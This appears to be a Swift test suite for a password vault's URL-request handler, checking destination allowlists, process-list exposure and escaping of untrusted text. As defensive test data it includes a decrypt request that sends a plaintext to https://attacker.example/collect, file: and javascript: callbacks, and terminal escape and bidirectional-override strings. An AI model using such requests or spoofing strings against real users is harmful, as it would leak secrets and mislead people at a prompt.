import Foundation
import Testing
import VaultCore
import VaultTestSupport

/// Issue 14, finding 3: the allowlist is keyed on where results go, never on the caller's
/// claimed `x-source`; a plaintext reaches a web origin only when that origin is allowed;
/// a plaintext never sits on xdg-open's command line; untrusted text is shown escaped.
@Suite struct URLDestinationTests {
    typealias Setup = URLRequestTests.Setup

    static func encrypted(_ s: Setup, _ text: String) throws -> String {
        let result = try s.url(URLRequestTests.request("encrypt", [("plaintext", text), ("key", "family"), ("x-success", "a://ok")]))
        return try #require(try URLRequestTests.results(result.stdout.trimmingCharacters(in: .newlines))["encryptedData"], "\(result.stderr)")
    }

    /// A stand-in xdg-open that records its arguments in `log`, first on the PATH of
    /// `environment`, with a display set so that vault tries it.
    static func xdgOpenStandIn(_ s: Setup) throws -> (bin: TemporaryDirectory, log: String, environment: [String: String]) {
        let bin = TemporaryDirectory("vault-xdg")
        let log = bin.file("argv")
        try "#!/bin/sh\nprintf '%s\\n' \"$@\" >> \(log)\n".write(toFile: bin.file("xdg-open"), atomically: true, encoding: .utf8)
        chmod(bin.file("xdg-open"), 0o755)
        var environment = s.alice.vault.childEnvironment
        environment["PATH"] = bin.path + ":" + (environment["PATH"] ?? "/usr/bin:/bin")
        environment["DISPLAY"] = ":99"
        return (bin, log, environment)
    }

    @Test func aPlaintextReachesAWebOriginOnlyWhenThatOriginIsAllowed() throws {
        let s = try Setup(allow: false)
        try s.alice.ok("settings", "url-allow", "a:")
        let data = try Self.encrypted(s, "the wifi password")
        // A page names itself after a program the user allowed; that name opens nothing.
        try s.alice.ok("settings", "url-allow", "tester")
        let steal = URLRequestTests.request("decrypt", [("encryptedData", data), ("x-source", "tester"),
                                                       ("x-success", "https://attacker.example/collect"), ("x-error", "a://failed")])
        let before = s.alice.vault.keystoreBytes()
        let refused = try s.url(steal)
        #expect(refused.status == 1 && refused.stdout.hasPrefix("a://failed?errorCode=9&"), "\(refused.stdout)\(refused.stderr)")
        #expect(!refused.stdout.contains("wifi"))
        #expect(refused.stderr.contains("https://attacker.example, which is not on the allowlist"), "\(refused.stderr)")
        #expect(s.alice.vault.keystoreBytes() == before)

        // On a terminal too: no prompt is shown at all, so one careless "y" cannot post it.
        let session = try s.alice.vault.interactive("url", steal)
        let onTerminal = session.finish()
        #expect(onTerminal.status == 1 && !session.transcript.contains("[y/N]"), "\(session.transcript)")

        // Another origin's permission does not carry over; the exact origin's does.
        try s.alice.ok("settings", "url-allow", "https://other.example")
        #expect(try s.url(steal).status == 1)
        try s.alice.ok("settings", "url-allow", "https://attacker.example/any/path")
        #expect(try s.alice.ok("settings").contains("https://attacker.example,"))
        let allowed = try s.url(steal)
        #expect(allowed.status == 0 && allowed.stdout.hasPrefix("https://attacker.example/collect?plaintext=the%20wifi"), "\(allowed.stderr)")
        // A different port is a different origin.
        let port = steal.replacingOccurrences(of: "attacker.example%2Fcollect", with: "attacker.example%3A8443%2Fcollect")
        #expect(try s.url(port).status == 1)
    }

    @Test func withoutATerminalTheDestinationDecides() throws {
        let s = try Setup(allow: false)
        try s.alice.ok("settings", "url-allow", "a:")
        let data = try Self.encrypted(s, "x")
        // Results to standard output need '-' allowed; to another scheme, that scheme.
        let bare = URLRequestTests.request("decrypt", [("encryptedData", data), ("x-source", "a")])
        #expect(try s.url(bare).stderr.contains("destination - is not on the allowlist"))
        try s.alice.ok("settings", "url-allow", "-")
        #expect(try s.url(bare).status == 0)
        let other = URLRequestTests.request("decrypt", [("encryptedData", data), ("x-success", "b://ok")])
        #expect(try s.url(other).status == 1)
        // Destinations are checked when allowed, too.
        #expect(try s.alice.fails(["settings", "url-allow", "https://"]).contains("invalid destination 'https://'"))
        // A bare name with a dot reads as a web site: it is refused, not stored as the
        // scheme it also spells, and the two ways to write what was meant are given.
        let site = try s.alice.fails(["settings", "url-allow", "example.com"])
        #expect(site == "vault: error: 'example.com' could be a web site or an application's scheme\n"
                + "vault: hint: write 'https://example.com' for the web site, or 'example.com:' for an application's scheme\n", "\(site)")
        try s.alice.ok("settings", "url-allow", "com.example.app:")
        #expect(try s.alice.ok("settings", "list").contains("com.example.app:"))
        // A host and a port too.
        let port = try s.alice.fails(["settings", "url-allow", "localhost:3000"])
        #expect(port.hasSuffix("vault: hint: write 'https://localhost:3000' for the web site, or 'localhost:' for an application's scheme\n"), "\(port)")
        // One stored as a scheme (as url-allow once stored 'example.com') is taken off as it
        // was given; taking off cannot widen what is allowed.
        try s.alice.ok("settings", "url-allow", "example.com:")
        try s.alice.ok("settings", "url-deny", "example.com")
        #expect(!(try s.alice.ok("settings", "list").contains("example.com:")))
        #expect(try s.alice.fails(["settings", "url-deny", "example.com"]).contains("could be a web site or an application's scheme"))
    }

    @Test func neverPutsAPlaintextOnXdgOpensCommandLine() throws {
        let s = try Setup()
        let data = try Self.encrypted(s, "plaintext on argv")
        let (bin, log, environment) = try Self.xdgOpenStandIn(s)
        defer { withExtendedLifetime(bin) {} }
        let hidden = (try? String(contentsOfFile: "/proc/self/mountinfo", encoding: .utf8))?.contains("hidepid=") ?? false

        let decrypt = URLRequestTests.request("decrypt", [("encryptedData", data), ("x-success", "a://ok")])
        let opened = try ProcessRunner.run(VaultBinary.path, ["url", "--open", "-"], stdin: Array(decrypt.utf8), environment: environment)
        #expect(opened.status == 0, "\(opened.stderr)")
        let argv = (try? String(contentsOfFile: log, encoding: .utf8)) ?? ""
        if hidden {
            #expect(argv.contains("plaintext=plaintext%20on%20argv"))
        } else {
            #expect(!argv.contains("plaintext"), "\(argv)")
            #expect(opened.stderr.contains("other users can read in /proc") && opened.stdout.hasPrefix("a://ok?plaintext=plaintext%20on%20argv"))
        }
        // A ciphertext is no secret: an encrypt result is opened as before.
        let encrypt = URLRequestTests.request("encrypt", [("plaintext", "y"), ("key", "family"), ("x-success", "a://ok")])
        let sent = try ProcessRunner.run(VaultBinary.path, ["url", "--open", "-"], stdin: Array(encrypt.utf8), environment: environment)
        #expect(sent.status == 0 && sent.stdout.isEmpty, "\(sent.stdout)\(sent.stderr)")
        #expect(((try? String(contentsOfFile: log, encoding: .utf8)) ?? "").contains("a://ok?encryptedData="))
    }

    /// The desktop's handler gets the request as an argument (`url --open %u`): while it
    /// waits at its prompt, the plaintext is not in the process list.
    @Test func aRequestGivenAsAnArgumentLeavesTheProcessList() throws {
        let s = try Setup(allow: false)
        let request = URLRequestTests.request("encrypt", [("plaintext", "argv marker 7f3a"), ("key", "family"), ("x-success", "a://ok")])
        let session = try s.alice.vault.interactive("url", "--open", request)
        try session.expect("[y/N] ")
        let arguments = try String(decoding: Data(contentsOf: URL(fileURLWithPath: "/proc/\(session.processID)/cmdline")), as: UTF8.self)
        #expect(arguments.contains("url\0--open\0"), "\(arguments)")
        #expect(!arguments.contains("marker") && !arguments.contains("vault://"), "\(arguments)")
        session.send("n")
        #expect(session.finish().status == 2)
    }

    /// A failure is never confirmed by anyone, so with --open its x-error or x-cancel is
    /// opened only where x-success could send results: not a `file:` URL, and a server only
    /// when its origin is allowed. Otherwise it is printed, with a warning.
    @Test func failureCallbacksAreOpenedOnlyWhereResultsCouldGo() throws {
        let s = try Setup()
        let (bin, log, environment) = try Self.xdgOpenStandIn(s)
        defer { withExtendedLifetime(bin) {} }
        func fail(_ callbacks: [(String, String)]) throws -> (result: ProcessResult, opened: String) {
            try? FileManager.default.removeItem(atPath: log)
            let request = URLRequestTests.request("encrypt", [("plaintext", "y"), ("key", "nokey")] + callbacks)
            let result = try ProcessRunner.run(VaultBinary.path, ["url", "--open", "-"], stdin: Array(request.utf8), environment: environment)
            #expect(result.status == 1, "\(result.stderr)")
            return (result, (try? String(contentsOfFile: log, encoding: .utf8)) ?? "")
        }

        for refused in ["file:///home/alice/.bashrc", "javascript:alert(1)", "https://attacker.example/probe"] {
            let (result, opened) = try fail([("x-error", refused)])
            #expect(opened.isEmpty, "\(refused) was opened: \(opened)")
            #expect(result.stderr.contains("not opening the x-error callback"), "\(result.stderr)")
            #expect(result.stdout.hasPrefix(refused), "printed instead: \(result.stdout)")
        }
        // An application's own scheme, and an allowed origin, are opened as before.
        #expect(try fail([("x-error", "a://failed")]).opened.hasPrefix("a://failed?errorCode="))
        try s.alice.ok("settings", "url-allow", "https://app.example")
        #expect(try fail([("x-error", "https://app.example/failed")]).opened.hasPrefix("https://app.example/failed?errorCode="))
    }

    @Test func showsUntrustedTextEscaped() throws {
        let s = try Setup(allow: false)
        let hostile = "editor\u{1B}[2J\rAllowed by policy\u{202E}txt.exe"
        let request = URLRequestTests.request("encrypt", [("plaintext", "hi"), ("key", "family"), ("x-source", hostile),
                                                          ("description", "new\u{1B}]0;title\u{7}"), ("x-success", "a://ok")])
        let session = try s.alice.vault.interactive("url", request)
        try session.expect("[y/N] ")
        session.send("n")
        let result = session.finish()
        let shown = result.stderr + session.transcript
        #expect(!shown.contains("\u{1B}") && !shown.contains("\r") && !shown.contains("\u{202E}"), "\(shown.debugDescription)")
        #expect(shown.contains("editor\\u{1B}[2J\\rAllowed by policy\\u{202E}txt.exe"), "\(shown)")
        #expect(TerminalText.escaped("a\u{2066}b\u{200B}c\u{2028}") == "a\\u{2066}b\\u{200B}c\\u{2028}")
    }
}
